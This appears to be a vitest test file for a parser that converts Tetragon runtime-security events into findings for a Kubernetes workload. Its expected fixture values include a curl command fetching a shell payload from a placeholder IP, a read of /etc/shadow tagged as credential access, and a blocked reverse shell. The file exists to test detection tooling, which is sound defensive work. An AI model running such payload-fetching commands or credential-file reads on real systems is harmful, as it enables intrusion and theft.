import { batchSchema } from '@klaxon/findings';
import { describe, expect, it } from 'vitest';
import { detectFormat } from '../registry';
import { IgnoredInput } from '../source';
import { DIGEST, fixture, meta, parseError } from '../../../../test/support/fixtures';
import { tetragonParser } from './parse';

const EVENTS = fixture('tetragon', 'events-prod-shop.ndjson');
const parse = (raw: string) => tetragonParser.parse(raw, meta({}, 'webhook:tetragon'));

describe('tetragon parser', () => {
  const batch = parse(EVENTS);

  it('reads process_exec and process_kprobe events and skips the rest of the batch', () => {
    expect(() => batchSchema.parse(batch)).not.toThrow();
    // 5 lines: exec, kprobe, kprobe (SIGKILL), exit (skipped), host exec.
    expect(batch.findings.map((f) => f.raw!.event)).toEqual(['process_exec', 'process_kprobe', 'process_kprobe', 'process_exec']);
    expect(batch.findings.every((f) => f.kind === 'runtime' && f.stage === 'runtime')).toBe(true);
  });

  it('names the workload and image from the pod, with the digest from the image id', () => {
    const exec = batch.findings[0];
    expect(exec).toMatchObject({
      rule: { id: 'process_exec:/usr/bin/curl', tags: ['process_exec'] },
      severity: 'low',
      artifact: { registry: 'harbor.example.com', repository: 'shop/checkout', tag: '1.4.2', digest: DIGEST },
      workload: { namespace: 'prod-shop', kind: 'Deployment', name: 'checkout', pod: 'checkout-7d9c5b6f4-x2k8p', container: 'checkout' },
      observedAt: '2026-11-23T09:40:00.100000000Z',
    });
    expect(exec.labels['workload.derived']).toBeUndefined();
    expect(exec.raw).toMatchObject({
      binary: '/usr/bin/curl',
      arguments: '-s http://203.0.113.7/payload.sh',
      'parent.binary': '/bin/sh',
      node_name: 'ip-10-20-3-17',
    });
  });

  it('names kprobe findings by policy and function, keeps their tags, and ranks enforced ones higher', () => {
    const [, watch, kill] = batch.findings;
    expect(watch).toMatchObject({
      rule: { id: 'file-monitoring-filtered/security_file_permission', tags: ['observability.filesystem', 'mitre_credential_access', 'process_kprobe'] },
      severity: 'medium',
    });
    expect(watch.raw!.args).toEqual([{ file_arg: { path: '/etc/shadow', permission: '-rw-r-----' } }, { int_arg: 4 }]);
    expect(String(watch.raw!.arguments)).toContain('影子');
    expect(kill).toMatchObject({
      severity: 'high',
      title: 'Reverse shell blocked in prod-shop/checkout',
      labels: { 'workload.derived': 'deployment name from the pod name' },
    });
    expect(String(kill.raw!.arguments).length).toBeGreaterThan(6000);
  });

  it('keeps host processes without a pod', () => {
    expect(batch.findings[3]).toMatchObject({ title: 'sshd executed on ip-10-20-3-18' });
    expect(batch.findings[3].workload).toBeUndefined();
    expect(batch.findings[3].artifact).toBeUndefined();
  });

  it('acknowledges a body of events it does not read, and rejects a malformed one naming the field', () => {
    expect(() => parse(fixture('tetragon', 'process-exit.json'))).toThrow(IgnoredInput);
    expect(parseError(() => parse(fixture('tetragon', 'missing-binary.json'))).path).toBe('process_exec.process.binary');
    expect(detectFormat(EVENTS.split('\n')[0])).toBe('tetragon');
  });
});
